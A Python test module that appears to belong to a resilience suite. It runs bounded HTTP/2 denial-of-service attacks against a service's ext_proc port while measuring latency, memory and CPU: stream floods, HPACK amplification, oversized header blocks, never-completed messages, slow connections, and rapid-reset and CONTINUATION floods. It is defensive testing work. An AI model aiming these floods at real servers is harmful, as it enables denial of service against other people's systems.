"""HTTP/2 attacks on a picker's ext_proc port (issue 13 items 1 and 2), each bounded in frames
and in time, each measured from outside: PING answer times on a separate connection, the
picker's resident memory and CPU from /proc, and what the attacking connection got back.

- stream flood: many streams that grant no send window (INITIAL_WINDOW_SIZE=0), so every answer
  is parked, then SETTINGS frames that make the server revisit the parked answers;
- amplification: a long non-UTF-8 ``:path`` indexed once in HPACK, then tiny HEADERS frames
  that reference it, never reading the answers;
- buffering: 1 MiB HEADERS frames of HPACK table-size updates, and never-completed messages
  (12 streams x 8 MiB);
- slow peers: connections that send nothing, or half a preface;
- control-frame floods: PING, SETTINGS, rapid reset (HEADERS + RST_STREAM), empty CONTINUATION.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable

import msgspec

from resilience import h2wire as w
from resilience.procinfo import cpu_seconds, rss_bytes
from resilience.stack import Picker

REFUSED_STREAM = 0x7
MB = 1024 * 1024


class MemoryWatch:
    """Samples a process's resident memory every 50 ms: the baseline and the peak."""

    def __init__(self, pid: int | None) -> None:
        self.pid = pid
        self.baseline = rss_bytes(pid) if pid else None
        self.peak = self.baseline
        self._task: asyncio.Task[None] | None = None

    @property
    def growth_mb(self) -> float | None:
        """Peak minus baseline, in MiB (None when the pid is unknown)."""
        if self.baseline is None or self.peak is None:
            return None
        return (self.peak - self.baseline) / MB

    async def _sample(self) -> None:
        while self.pid:
            rss = rss_bytes(self.pid)
            if rss is not None and (self.peak is None or rss > self.peak):
                self.peak = rss
            await asyncio.sleep(0.05)

    def __enter__(self) -> MemoryWatch:
        self._task = asyncio.create_task(self._sample())
        return self

    def __exit__(self, *exc: object) -> None:
        if self._task is not None:
            self._task.cancel()


@contextlib.asynccontextmanager
async def probing(picker: Picker, interval: float = 0.1) -> AsyncIterator[w.PingProbe]:
    """A PING probe on ``picker`` for the duration of the block."""
    probe = w.PingProbe(picker.host, picker.port, interval=interval)
    probe.start()
    try:
        yield probe
    finally:
        await probe.stop()


class FloodResult(msgspec.Struct):
    """What one stream-flood connection achieved."""

    opened: int = 0
    refused: int = 0
    settings_sent: int = 0
    goaway: bool = False
    cpu_s: float | None = None


async def _drain_until(writer: asyncio.StreamWriter, deadline: float) -> bool:
    """Wait for the socket buffer to empty, at most until ``deadline``; False if it did not."""
    try:
        async with asyncio.timeout(max(0.0, deadline - time.monotonic())):
            await writer.drain()
    except TimeoutError:
        return False
    return True


async def _count_frames(reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                        counts: Counter[str]) -> None:
    """Read the server's frames: ACK its SETTINGS, count refusals and GOAWAY."""
    with contextlib.suppress(asyncio.IncompleteReadError, OSError):
        while True:
            kind, flags, _, payload = await w.read_frame(reader)
            if kind == w.SETTINGS and not flags & w.ACK:
                writer.write(w.frame(w.SETTINGS, w.ACK, 0))
            elif kind == w.RST_STREAM and payload == REFUSED_STREAM.to_bytes(4, "big"):
                counts["refused"] += 1
            elif kind == w.GOAWAY:
                counts["goaway"] += 1


async def stream_flood(picker: Picker, streams: int, settings_frames: int,
                       duration: float) -> FloodResult:
    """Open ``streams`` streams with no send window granted, then send SETTINGS frames spread
    over the rest of ``duration`` seconds; hold the connection until then."""
    result = FloodResult()
    deadline = time.monotonic() + duration
    cpu_before = cpu_seconds(picker.pid) if picker.pid else None
    reader, writer = await w.open_connection(picker.host, picker.port)
    counts: Counter[str] = Counter()
    reading = asyncio.create_task(_count_frames(reader, writer, counts))
    try:
        writer.write(w.PREFACE + w.settings(enable_push=0, initial_window_size=0))
        block = w.request_block()
        stream_id = 1
        while result.opened < streams and time.monotonic() < deadline and not counts["goaway"]:
            batch = min(200, streams - result.opened)
            writer.write(b"".join(
                w.frame(w.HEADERS, w.END_HEADERS, stream_id + 2 * i, block)
                + w.frame(w.DATA, 0, stream_id + 2 * i, w.REQUEST_HEADERS_MESSAGE)
                for i in range(batch)))
            stream_id += 2 * batch
            result.opened += batch
            if not await _drain_until(writer, deadline):
                break
        remaining = max(0.0, deadline - time.monotonic())
        for _ in range(settings_frames):
            if time.monotonic() >= deadline or counts["goaway"]:
                break
            writer.write(w.settings(initial_window_size=0))
            result.settings_sent += 1
            await asyncio.sleep(remaining / (settings_frames + 1))
        await asyncio.sleep(max(0.0, deadline - time.monotonic()))
    except OSError:
        pass  # the server hung up: the counts say how far the attack got
    finally:
        reading.cancel()
        w.close(writer)
    result.refused = counts["refused"]
    result.goaway = bool(counts["goaway"])
    if cpu_before is not None and picker.pid:
        after = cpu_seconds(picker.pid)
        result.cpu_s = None if after is None else after - cpu_before
    return result


class FloodFigures(msgspec.Struct):
    """Outcome of a write-only flood: how far it got and whether the server stopped it."""

    units_sent: int = 0  # frames, or groups of frames (a flood's unit)
    bytes_sent: int = 0
    closed_by_server: bool = False
    rss_growth_mb: float | None = None
    cpu_s: float | None = None


async def _closed_by_server(reader: asyncio.StreamReader, within: float) -> bool:
    """Read (and discard) what the server sent until EOF (True) or ``within`` seconds pass."""
    try:
        async with asyncio.timeout(within):
            while await reader.read(1 << 16):
                pass
    except TimeoutError:
        return False
    except OSError:
        return True
    return True


async def write_flood(picker: Picker, opening: bytes, unit: Callable[[int], bytes], count: int,
                      duration: float, batch_units: int = 500) -> FloodFigures:
    """Send ``opening``, then ``unit(i)`` for i < ``count`` in batches of ``batch_units``, never
    reading, until done, the server hangs up, or ``duration`` passes; then hold the connection
    for what is left of ``duration`` while memory is watched."""
    figures = FloodFigures()
    deadline = time.monotonic() + duration
    cpu_before = cpu_seconds(picker.pid) if picker.pid else None
    with MemoryWatch(picker.pid) as memory:
        reader, writer = await w.open_connection(picker.host, picker.port)
        try:
            writer.write(opening)
            figures.bytes_sent += len(opening)
            index = 0
            while index < count and time.monotonic() < deadline:
                end = min(count, index + batch_units)
                batch = b"".join(unit(i) for i in range(index, end))
                writer.write(batch)
                figures.bytes_sent += len(batch)
                figures.units_sent += end - index
                index = end
                if writer.transport.is_closing() or not await _drain_until(writer, deadline):
                    break
            await asyncio.sleep(max(0.0, deadline - time.monotonic()))
            figures.closed_by_server = await _closed_by_server(reader, min(2.0, duration))
        except OSError:
            figures.closed_by_server = True
        finally:
            w.close(writer)
            await asyncio.sleep(0.1)  # a last sample after the connection is gone
    figures.rss_growth_mb = memory.growth_mb
    if cpu_before is not None and picker.pid:
        after = cpu_seconds(picker.pid)
        figures.cpu_s = None if after is None else after - cpu_before
    return figures


async def amplification(picker: Picker, frames: int, duration: float,
                        path_bytes: int = 4000) -> FloodFigures:
    """A ``path_bytes``-long non-UTF-8 ``:path`` indexed in HPACK (the server's SETTINGS are
    never acknowledged, so its 4 KiB table stays), then ``frames`` HEADERS frames of one byte of
    header block each (dynamic index 62: that path), each asking for an answer never read."""
    path = b"/" + b"\xff" * (path_bytes - 1)
    first = w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 1,
                    w.literal(b":path", path, indexed=True))
    opening = w.PREFACE + w.settings() + first
    return await write_flood(
        picker, opening, lambda i: w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 3 + 2 * i,
                                           b"\xbe"),
        frames, duration)


class ControlFlood(msgspec.Struct, frozen=True):
    """A write-only flood: what opens the connection, and the repeated unit (``unit(i)``)."""

    opening: bytes
    unit: Callable[[int], bytes]
    unit_name: str


CONTROL_FLOODS: dict[str, ControlFlood] = {
    "PING flood": ControlFlood(w.PREFACE + w.settings(),
                               lambda i: w.frame(w.PING, 0, 0, i.to_bytes(8, "big")), "PINGs"),
    "SETTINGS flood": ControlFlood(w.PREFACE + w.settings(), lambda i: w.settings(),
                                   "SETTINGS"),
    "rapid reset": ControlFlood(
        w.PREFACE + w.settings(),
        lambda i: w.frame(w.HEADERS, w.END_HEADERS, 1 + 2 * i, w.request_block())
        + w.frame(w.RST_STREAM, 0, 1 + 2 * i, w.CANCEL.to_bytes(4, "big")),
        "HEADERS+RST_STREAM pairs"),
    "empty CONTINUATION": ControlFlood(
        w.PREFACE + w.settings() + w.frame(w.HEADERS, 0, 1, w.request_block()),
        lambda i: w.frame(w.CONTINUATION, 0, 1), "CONTINUATIONs"),
}


MIB_FRAME = (1 << 20) - 16  # within the 1 MiB frames the picker advertises it accepts


def table_size_updates(index: int) -> bytes:
    """A HEADERS frame (stream ``2 * index + 1``) of nothing but HPACK table-size updates,
    almost 1 MiB of them: the header-block limit must apply to HEADERS too (item 2b)."""
    return w.frame(w.HEADERS, w.END_HEADERS, 2 * index + 1, b"\x20" * MIB_FRAME)


PARTIAL_CHUNKS = 8  # 1 MiB frames per stream
CLAIMED_MESSAGE = 60 << 20  # below the picker's 64 MiB message limit, never completed


def partial_message_chunk(index: int) -> bytes:
    """Chunk ``index`` of streams carrying 8 MiB each of gRPC messages that claim 60 MiB and
    never complete: buffered bytes per connection must be bounded (item 2c)."""
    stream_id = 2 * (index // PARTIAL_CHUNKS) + 1
    if index % PARTIAL_CHUNKS == 0:
        head = b"\x00" + CLAIMED_MESSAGE.to_bytes(4, "big")
        return (w.frame(w.HEADERS, w.END_HEADERS, stream_id, w.request_block())
                + w.frame(w.DATA, 0, stream_id, head + b"x" * (MIB_FRAME - len(head))))
    return w.frame(w.DATA, 0, stream_id, b"x" * MIB_FRAME)


class SlowResult(msgspec.Struct):
    """Slow connections and how many the server closed by the deadline."""

    idle: int = 0
    idle_closed: int = 0
    partial: int = 0
    partial_closed: int = 0
    refused: int = 0


async def slow_peers(picker: Picker, count: int, wait: float) -> SlowResult:
    """Open ``count`` connections that send nothing and ``count`` that send half a preface
    (for at most ``wait`` seconds); ``wait`` seconds after the last one opened, see how many the
    server has closed. (Timed from the last one: every connection has been held that long.)"""
    result = SlowResult()
    idle: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    partial: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    opening_deadline = time.monotonic() + wait
    try:
        for i in range(2 * count):
            if time.monotonic() >= opening_deadline:
                break
            try:
                reader, writer = await w.open_connection(picker.host, picker.port, 1.0)
            except (OSError, TimeoutError):
                result.refused += 1
                continue
            if i % 2:
                writer.write(w.PREFACE[:12])
                partial.append((reader, writer))
            else:
                idle.append((reader, writer))
        await asyncio.sleep(wait)
        result.idle, result.partial = len(idle), len(partial)
        closed = await asyncio.gather(*(_closed_by_server(r, 0.2) for r, _ in idle + partial))
        result.idle_closed = sum(closed[: len(idle)])
        result.partial_closed = sum(closed[len(idle):])
    finally:
        for _, writer in idle + partial:
            w.close(writer)
    return result
